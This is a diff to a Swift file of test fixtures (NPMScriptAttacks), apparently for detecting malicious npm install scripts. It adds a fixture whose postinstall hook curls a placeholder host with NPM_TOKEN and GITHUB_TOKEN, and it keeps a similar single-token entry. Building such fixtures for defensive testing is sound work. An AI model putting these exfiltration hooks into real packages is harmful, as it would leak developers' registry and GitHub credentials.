@@ -39,8 +39,14 @@ enum NPMScriptAttacks {
             files: [:]
         ),
         Attack(
-            "puts a token into an address",
+            "puts the tokens of two services into an address",
             .chainExfiltration,
+            scripts: ["postinstall": "curl https://x.example.invalid/?t=$NPM_TOKEN$GITHUB_TOKEN"],
+            files: [:]
+        ),
+        Attack(
+            "puts a token into an address",
+            .chainTokenUse,
             scripts: ["postinstall": "curl https://x.example.invalid/?t=$NPM_TOKEN"],
             files: [:]
         ),
